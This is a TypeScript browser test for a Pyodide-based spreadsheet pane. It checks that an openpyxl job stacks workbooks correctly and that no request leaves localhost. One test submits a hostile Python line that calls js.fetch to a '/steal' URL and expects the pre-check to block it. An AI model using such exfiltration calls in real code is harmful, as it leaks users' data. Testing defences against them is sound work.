/**
 * The pane in real Chromium with the real Pyodide worker: loads, starts Python
 * behind the worker's CSP, runs an openpyxl job on uploaded files, and offers
 * the result for download. Fails if any request leaves localhost.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { PreviewServer } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildAndServe, launchChromium, watchRequests } from '../helpers/browser';
import { makeFixtures, readWorkbook } from '../helpers/python';

let browser: Browser;
let context: BrowserContext;
let page: Page;
let server: PreviewServer;
let requests: ReturnType<typeof watchRequests>;
let fixtures: string;

beforeAll(async () => {
  fixtures = makeFixtures();
  const served = await buildAndServe();
  server = served.server;
  browser = await launchChromium();
  context = await browser.newContext({ acceptDownloads: true });
  requests = watchRequests(context);
  page = await context.newPage();
  await page.goto(served.url);
  await page.getByTestId('runtime-status').filter({ hasText: /ready/ }).waitFor({ timeout: 90_000 });
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

async function runCode(code: string, files: string[]): Promise<void> {
  await page.getByTestId('file-input').setInputFiles(files);
  await page.getByTestId('code').fill(code);
  await page.getByTestId('run').click();
}

describe('the pane in Chromium', () => {
  it('starts Python in the worker and says which openpyxl it has', async () => {
    await expect(page.getByTestId('runtime-status').textContent()).resolves.toMatch(/Python 3\.\d+.* ready \(openpyxl 3\.0\.9\)/);
  });

  it('stacks three workbooks with openpyxl and offers the right result for download', async () => {
    const code = readFileSync(join(import.meta.dirname, '..', 'jobs', 'stack_basesheet.py'), 'utf8');
    await runCode(code, ['north.xlsx', 'south.xlsx', 'west.xlsx'].map((n) => join(fixtures, 'stack', n)));
    const link = page.getByTestId('download');
    await link.waitFor({ timeout: 60_000 });
    const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
    const saved = join(fixtures, 'browser-result.xlsx');
    await download.saveAs(saved);
    const rows = readWorkbook(saved).Stacked!.rows;
    const expected = JSON.parse(readFileSync(join(fixtures, 'stack', 'expected.json'), 'utf8')) as unknown[];
    expect(rows.length - 1).toBe(expected.length);
    await expect(page.getByTestId('stdout').textContent()).resolves.toContain('stacked 120 rows');
  });

  it('shows a pre-check refusal for hostile code, and nothing runs', async () => {
    await runCode('import js\njs.fetch("http://example.com/steal")\n', [join(fixtures, 'stack', 'north.xlsx')]);
    const error = page.getByTestId('run-error');
    await error.waitFor({ timeout: 30_000 });
    await expect(error.getAttribute('data-kind')).resolves.toBe('precheck');
  });

  it('never sent a request off localhost, and saw the worker load Pyodide from its own origin', () => {
    expect(requests.offHost).toEqual([]);
    expect(requests.all.some((u) => u.endsWith('/pyodide/pyodide.asm.wasm'))).toBe(true);
    expect(requests.all.some((u) => u.endsWith('/python/bundle.zip'))).toBe(true);
  });
});
